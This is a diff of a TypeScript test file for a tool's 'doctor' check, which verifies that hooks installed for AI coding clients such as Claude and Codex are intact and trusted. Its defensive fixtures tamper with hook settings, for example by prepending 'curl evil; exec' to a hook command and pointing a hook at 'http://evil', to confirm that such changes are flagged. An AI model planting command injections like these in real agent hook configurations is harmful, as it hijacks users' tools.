@@ -1,5 +1,6 @@
-import { chmodSync, mkdirSync, statSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import { hash } from "node:crypto";
+import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { Ground } from "../src/testing/process.ts";
 
@@ -19,11 +20,28 @@ const examine = async (ground: Ground, args: string[] = [], env: Record<string, 
   return { code, of, states: Object.fromEntries(report.checks.map(({ name, state }) => [name, state])) };
 };
 
+/** As Codex 0.166 was seen to write it once somebody has said that they trust all hooks. */
+function trustInCodex(file: string, text: string): void {
+  const { hooks }: { hooks: Record<string, { hooks: { command: string; timeout: number; type: string }[] }[]> } =
+    JSON.parse(text);
+  const states = Object.entries(hooks).flatMap(([event, groups]) => {
+    const event_name = event.replace(/(?<!^)[A-Z]/g, "_$&").toLowerCase();
+    return groups.flatMap((group, at) =>
+      group.hooks.map(({ command, timeout, type }, index) => {
+        const identity = JSON.stringify({ event_name, hooks: [{ async: false, command, timeout, type }] });
+        const digest = hash("sha256", identity, "hex");
+        return `[hooks.state."${file}:${event_name}:${at}:${index}"]\ntrusted_hash = "sha256:${digest}"\n`;
+      }),
+    );
+  });
+  writeFileSync(join(dirname(file), "config.toml"), ['model = "x"\n', "[hooks.state]\n", ...states].join("\n"));
+}
+
 describe("doctor", () => {
   test("finds nothing wrong where nothing is, through both eras of MCP", async () => {
     await using ground = new Ground();
     await ground.serve();
-    await ground.json(["hooks", "install"]);
+    await ground.json(["hooks", "install", "--yes"]);
     await ground.parley(["hook", "Stop"], { input: '{"session_id":"s"}', env: { PARLEY_HOOK_MS: "30000" } });
     const { code, states } = await examine(ground);
     expect(code).toBe(0);
@@ -88,7 +106,68 @@ describe("doctor", () => {
     writeFileSync(join(ground.folder, ".claude", "settings.json"), JSON.stringify({ hooks, disableAllHooks: true }));
     const { code, of } = await examine(ground);
     expect(code).toBe(1);
-    expect(of("hooks")?.message).toMatch(/SessionStart.* missing.*\/gone\/bin\/parley.* not there.*disableAllHooks/);
+    expect(of("hooks")?.message).toMatch(/SessionStart.* missing.*\/gone\/bin\/parley.* not there.*lets no hook run/);
+  });
+
+  const installedIn = async (ground: Ground, client: string, path: string) => {
+    await ground.json(["hooks", "install", "--yes", "--client", client]);
+    const file = join(ground.folder, path);
+    return { text: readFileSync(file, "utf8"), file };
+  };
+
+  test("REACH-9: passes hooks only once a session has called them", async () => {
+    await using ground = new Ground();
+    await ground.serve();
+    await installedIn(ground, "claude", ".claude/settings.json");
+    expect((await examine(ground)).of("hooks")).toMatchObject({ state: "warn" });
+    await ground.parley(["hook", "Stop"], { input: "{}" });
+    expect((await examine(ground)).of("hooks")).toMatchObject({ state: "pass" });
+  });
+
+  test.each([
+    ["a comment", (text: string) => text.replace("{", "{ // mine"), "JSON has no comments"],
+    ["a trailing comma", (text: string) => text.replace(/\}\s*$/, ",}"), "after a comma"],
+    ["a hook with something before it", (text: string) => text.replace("exec ", "curl evil; exec "), "curl evil; exec"],
+    [
+      "a hook that asks another hub",
+      (text: string) => text.replace(/hook Stop/, "hook Stop --url http://evil"),
+      "Stop not as",
+    ],
+    [
+      "a hook that never matches",
+      (text: string) => text.replace('"PreCompact": [\n      {', '$&"matcher":"no",'),
+      "PreCompact not as",
+    ],
+    [
+      "a hook twice",
+      (text: string) => text.replace(/("Stop": \[\s*)(\{[\s\S]*?\}\s*\]\s*\})/, "$1$2,$2"),
+      "Stop not as",
+    ],
+    ["a timeout of nothing", (text: string) => text.replace('"timeout": 10', '"timeout": 0'), "SessionStart not as"],
+  ])("REACH-9: does not pass settings with %s", async (_, change, why) => {
+    await using ground = new Ground();
+    const { text, file } = await installedIn(ground, "claude", ".claude/settings.json");
+    expect(change(text)).not.toBe(text);
+    writeFileSync(file, change(text));
+    await ground.parley(["hook", "Stop"], { input: "{}" });
+    expect((await examine(ground)).of("hooks")).toMatchObject({ message: expect.stringContaining(why) });
+    expect((await examine(ground)).of("hooks")?.state).not.toBe("pass");
+    expect((await ground.parley(["hooks", "status", "--json"])).code).toBe(1);
+  });
+
+  test("REACH-9: does not pass hooks that Codex has not been told to trust, or that changed since", async () => {
+    await using ground = new Ground();
+    const { text, file } = await installedIn(ground, "codex", ".codex/hooks.json");
+    expect((await examine(ground)).of("hooks")).toMatchObject({
+      state: "fail",
+      message: expect.stringContaining("Codex does not trust SessionStart"),
+      advice: expect.stringContaining("/hooks"),
+    });
+    trustInCodex(file, text);
+    await ground.parley(["hook", "Stop", "--client", "codex"], { input: "{}" });
+    expect((await ground.parley(["hooks", "status", "--json"])).code).toBe(0);
+    trustInCodex(file, text.replaceAll("hook Stop", "hook Other"));
+    expect((await examine(ground)).of("hooks")?.message).toContain("Codex does not trust Stop yet");
   });
 
   test("says it to people in lines", async () => {
